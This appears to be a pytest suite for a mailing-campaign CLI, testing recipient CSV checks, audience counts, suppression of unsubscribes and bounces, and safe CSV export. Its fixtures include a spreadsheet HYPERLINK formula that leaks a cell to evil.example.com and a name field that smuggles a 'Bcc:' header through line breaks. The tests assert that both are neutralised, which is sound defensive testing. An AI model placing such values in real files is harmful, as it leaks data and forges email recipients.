"""`campaign lists`, `audience`, `recipients check` and `suppress` through the real CLI."""

from __future__ import annotations

import csv
import shlex
from pathlib import Path

import pytest
from typer.testing import CliRunner

from campaign.cli import app

HEADER = "email,name,organisation,city,country,lists\n"
VALID_ROWS = 10_000
FORMULA_ORGANISATION = '"=HYPERLINK(""http://evil.example.com/?leak=""&A1,""Click"")"'


@pytest.fixture
def project(tmp_path):
    (tmp_path / "campaign.toml").write_text(
        'recipients = "recipients.csv"\ndatabase = "campaign.db"\n'
        '[lists.members]\ndescription = "Member cities of WeGO"\n'
        '[lists.embassies]\ndescription = "Embassy contacts in Seoul"\n',
        encoding="utf-8",
    )
    (tmp_path / "content" / "issue-30").mkdir(parents=True)   # `audience --issue 30` needs the issue to exist
    return tmp_path


def run(project: Path, *args: str):
    return CliRunner().invoke(app, [*args, "--config", str(project / "campaign.toml")])


def write_recipients(project: Path, text: str, *, bom: bool = False) -> Path:
    path = project / "recipients.csv"
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


def messy_file(project: Path) -> Path:
    """Every trap of the issue, then 10,000 valid rows (lines 11 to 10,010)."""
    rows = [
        "ana@example.org,Ana Souza,Prefeitura,São Paulo,Brazil,members",                  # 2
        "ANA@Example.org,Ana Souza,Prefeitura,São Paulo,Brazil,embassies",                # 3 duplicate (case)
        "jorge@@example.org,Jorge Muñoz,Municipalidad,Lima,Peru,members",                 # 4 invalid address
        ",Nobody,Org,City,Country,members",                                               # 5 empty email
        "dorde@example.org,Đorđe Petrović,City of Belgrade,Belgrade,Serbia,newsletter",   # 6 unknown list
        '"mallory@example.org","Mallory\r\nBcc: x@example.com",Org,City,Country,members',  # 7-8 CR/LF in name
        f"eve@example.org,Eve,{FORMULA_ORGANISATION},City,Country,embassies",             # 9 formula
        "short@example.org,Short Row,Org,City,members",                                   # 10 missing column
    ]
    rows += [f"person{i}@example.net,Person {i},City Hall,City,Country,members" for i in range(VALID_ROWS)]
    return write_recipients(project, HEADER + "\n".join(rows) + "\n", bom=True)


def test_recipients_check_reports_every_bad_row_by_line_in_one_run_and_exits_1(project):
    path = messy_file(project)
    result = run(project, "recipients", "check", str(path))
    assert result.exit_code == 1
    errors = [line for line in result.stdout.splitlines() if ": error:" in line]
    assert [line.split(":")[1] for line in errors] == ["4", "5", "6", "10"]
    assert f"{path}:4: error: jorge@@example.org: invalid address:" in result.stdout
    assert f"{path}:5: error: empty email" in result.stdout
    assert f"{path}:6: error: dorde@example.org: unknown list 'newsletter'; known lists: members, embassies" \
        in result.stdout
    assert f"{path}:10: error: short@example.org: has 5 columns, the header has 6" in result.stdout
    assert f"{path}:3: warning: ANA@Example.org: duplicate of line 2" in result.stdout
    assert f"{path}:7: warning: mallory@example.org: name: line breaks or control characters removed" \
        in result.stdout
    assert "10,008 rows: 10,004 valid (10,003 unique addresses), 4 with errors, 2 warnings" in result.stdout


def test_recipients_check_of_a_clean_file_exits_0(project):
    write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members\n")
    result = run(project, "recipients", "check")
    assert result.exit_code == 0, result.output
    assert "1 row: 1 valid (1 unique address), 0 with errors, 0 warnings" in result.stdout


def test_recipients_check_of_the_project_example_file_is_clean():
    root = Path(__file__).resolve().parents[1]
    result = CliRunner().invoke(app, ["recipients", "check", "--config", str(root / "campaign.toml")])
    assert result.exit_code == 0, result.output
    assert "0 with errors, 0 warnings" in result.stdout


def test_audience_counts_each_valid_person_once_and_explains_every_exclusion(project):
    messy_file(project)
    result = run(project, "audience", "--issue", "30")
    assert result.exit_code == 0, result.output
    # ana (both lists, once), mallory, eve and the 10,000 generated people
    assert f"Issue 30 to members, embassies: {VALID_ROWS + 3:,} recipients" in result.stdout
    assert "line 3: ana@example.org: duplicate of line 2" in result.stdout
    assert "line 4: jorge@@example.org: invalid address:" in result.stdout
    assert "line 5: (empty): empty email" in result.stdout
    assert "line 6: dorde@example.org: unknown list 'newsletter'" in result.stdout
    assert "line 10: short@example.org: has 5 columns" in result.stdout


def test_audience_of_one_list_leaves_out_the_others_with_the_reason(project):
    write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members;embassies\n"
                                       "bob@example.org,Bob,Org,City,Peru,members\n"
                                       "eva@example.org,Eva,Org,City,Peru,embassies\n")
    result = run(project, "audience", "--list", "embassies")
    assert result.exit_code == 0, result.output
    assert "Sending to embassies: 2 recipients (embassies 2)" in result.stdout
    assert "line 3: bob@example.org: not on a selected list" in result.stdout


def test_person_on_both_lists_is_sent_one_copy_when_both_lists_are_selected(project):
    write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members;embassies\n"
                                       "Ana@example.org,Ana,Org,City,Peru,embassies\n")
    result = run(project, "audience", "--list", "members", "--list", "embassies")
    assert "members, embassies: 1 recipients (members 1, embassies 1)" in result.stdout


def test_audience_csv_manifest_opens_safely_in_a_spreadsheet(project):
    messy_file(project)
    manifest = project / "manifest.csv"
    result = run(project, "audience", "--csv", str(manifest))
    assert result.exit_code == 0, result.output
    assert f"wrote {VALID_ROWS + 8:,} rows to {manifest}" in result.stderr
    with manifest.open(encoding="utf-8-sig", newline="") as stream:
        rows = {row["line"]: row for row in csv.DictReader(stream)}
    assert rows["9"]["organisation"].startswith("'=HYPERLINK(")
    assert rows["7"]["name"] == "Mallory Bcc: x@example.com"
    assert rows["3"]["status"] == "excluded" and rows["3"]["reason"] == "duplicate of line 2"
    assert rows["2"]["lists"] == "members;embassies"
    dangerous = ("=", "+", "-", "@", "\t", "\r", "\0")
    assert not [row for row in rows.values() if any(value.startswith(dangerous) for value in row.values())]


def test_unknown_list_option_is_a_one_line_usage_error_naming_the_known_lists(project):
    write_recipients(project, HEADER)
    result = run(project, "audience", "--list", "newsletter")
    assert result.exit_code == 2
    assert result.stderr == "error: unknown list 'newsletter'; known lists: members, embassies\n"


def test_missing_recipients_file_is_a_one_line_error(project):
    result = run(project, "audience")
    assert result.exit_code == 1
    assert result.stderr.count("\n") == 1
    assert "recipients.csv: no such recipients file" in result.stderr


def test_recipients_file_without_lists_column_is_a_one_line_error_naming_it(project):
    path = write_recipients(project, "email,name\nana@example.org,Ana\n")
    result = run(project, "recipients", "check")
    assert result.exit_code == 1
    assert result.stderr.startswith(f"error: {path}: the header has no 'lists' column")
    assert result.stderr.count("\n") == 1


def test_lists_prints_each_list_with_its_count_and_description(project):
    write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members;embassies\n"
                                       "bob@example.org,Bob,Org,City,Peru,members\n"
                                       "cat@example.org,Cat,Org,City,Peru,members\n")
    assert run(project, "suppress", "add", "cat@example.org", "--reason", "bounced").exit_code == 0
    result = run(project, "lists")
    assert result.exit_code == 0, result.output
    lines = [line.split() for line in result.stdout.splitlines()]
    assert lines[1][:3] == ["members", "2", "1"] and "Member cities of WeGO" in result.stdout
    assert lines[2][:3] == ["embassies", "1", "0"]


def test_suppress_add_then_audience_excludes_the_person_with_reason_and_date(project):
    write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members\n"
                                       "bob@example.org,Bob,Org,City,Peru,members\n")
    added = run(project, "suppress", "add", "ANA@example.org", "--reason", "unsubscribed", "--date", "2026-05-02")
    assert added.exit_code == 0, added.output
    assert added.stdout == "suppressed: ana@example.org (unsubscribed on 2026-05-02)\n"
    result = run(project, "audience")
    assert "1 recipients" in result.stdout
    assert "line 2: ana@example.org: suppressed: unsubscribed on 2026-05-02" in result.stdout


def test_suppress_add_with_an_unknown_reason_exits_2(project):
    result = run(project, "suppress", "add", "ana@example.org", "--reason", "annoyed")
    assert result.exit_code == 2
    assert "unknown reason 'annoyed'" in result.stderr


def test_suppress_import_then_list_shows_every_suppression(project):
    source = project / "bounces.csv"
    source.write_text("email,reason,date\nana@example.org,bounced,2026-04-30\n"
                      "not-an-address,bounced,2026-04-30\nbob@example.org,complained,2026-05-01\n",
                      encoding="utf-8")
    imported = run(project, "suppress", "import", str(source))
    assert imported.exit_code == 1
    assert "imported 2 suppressions, 0 already suppressed, 1 row not imported" in imported.stdout
    assert f"{source}:3: not-an-address:" in imported.stderr
    listed = run(project, "suppress", "list")
    assert listed.exit_code == 0
    assert listed.stdout.splitlines() == ["2026-04-30  bounced       ana@example.org",
                                          "2026-05-01  complained    bob@example.org"]


def test_suppression_survives_the_person_being_added_back_to_the_recipients_file(project):
    write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members\n")
    run(project, "suppress", "add", "ana@example.org", "--reason", "unsubscribed", "--date", "2026-05-02")
    write_recipients(project, HEADER + "bob@example.org,Bob,Org,City,Peru,members\n"
                                       "Ana@Example.org,Ana Souza,Org,City,Peru,members;embassies\n")
    result = run(project, "audience")
    assert "1 recipients" in result.stdout
    assert "line 3: ana@example.org: suppressed: unsubscribed on 2026-05-02" in result.stdout


def test_a_fixed_bounce_is_lifted_and_the_person_is_back_in_the_audience(project):
    write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members\n")
    run(project, "suppress", "add", "ana@example.org", "--reason", "bounced", "--date", "2026-05-02")
    lifted = run(project, "suppress", "remove", "Ana@Example.org")
    assert lifted.exit_code == 0, lifted.output
    assert lifted.stdout == "no longer suppressed: ana@example.org (was bounced on 2026-05-02)\n"
    assert "1 recipients" in run(project, "audience").stdout


def test_an_unsubscribe_is_lifted_only_with_the_persons_consent(project):
    write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members\n")
    run(project, "suppress", "add", "ana@example.org", "--reason", "unsubscribed", "--date", "2026-05-02")
    refused = run(project, "suppress", "remove", "ana@example.org")
    assert refused.exit_code == 2 and "--consent" in refused.stderr and "Traceback" not in refused.output
    assert "0 recipients" in run(project, "audience").stdout
    assert run(project, "suppress", "remove", "ana@example.org", "--consent").exit_code == 0
    assert "1 recipients" in run(project, "audience").stdout


def test_lifting_a_suppression_that_does_not_exist_is_a_usage_error(project):
    result = run(project, "suppress", "remove", "nobody@example.org")
    assert result.exit_code == 2 and "is not suppressed" in result.stderr


def test_readme_examples_for_recipients_and_lists_run(tmp_path, monkeypatch):
    root = Path(__file__).resolve().parents[1]
    readme = (root / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Recipients and mailing lists", 1)[1].split("\n## ", 1)[0]
    commands = [shlex.split(line.split("  #", 1)[0]) for block in section.split("```sh\n")[1:]
                for line in block.split("```", 1)[0].splitlines() if line.strip()]
    assert {tuple(command[1:3]) for command in commands} >= {
        ("lists",), ("recipients", "check"), ("suppress", "add"), ("suppress", "import"), ("suppress", "list")}
    for name in ("campaign.toml", "recipients.example.csv"):
        (tmp_path / name).write_bytes((root / name).read_bytes())
    (tmp_path / "contacts-2026.csv").write_bytes((root / "recipients.example.csv").read_bytes())
    (tmp_path / "bounces.csv").write_text("email,reason\njorge.munoz@example.org,bounced\n", encoding="utf-8")
    (tmp_path / "sendgrid-bounces.csv").write_text(
        "created,email,reason,status\n1764000000,li.wei@example.org,550 5.1.1 unknown user,5.1.1\n", encoding="utf-8")
    (tmp_path / "output" / "issue-30").mkdir(parents=True)
    (tmp_path / "content" / "issue-30").mkdir(parents=True)    # `audience --issue 30` needs the issue to exist
    monkeypatch.chdir(tmp_path)
    for command in commands:
        assert command[0] == "campaign"
        result = CliRunner().invoke(app, command[1:])
        assert result.exit_code == 0, (command, result.output)
    assert (tmp_path / "output" / "issue-30" / "audience.csv").exists()


def test_recipients_check_names_the_line_of_a_value_with_placeholder_brackets(project):
    path = write_recipients(project, HEADER + "ana@example.org,Ana,Org,City,Peru,members\n"
                                              "eve@example.org,Eve [[unsubscribe_url]],Org,City,Peru,members\n")
    result = run(project, "recipients", "check", str(path))
    assert result.exit_code == 1
    assert f"{path}:3: error: eve@example.org: name: holds '[[' or ']]'" in result.stdout
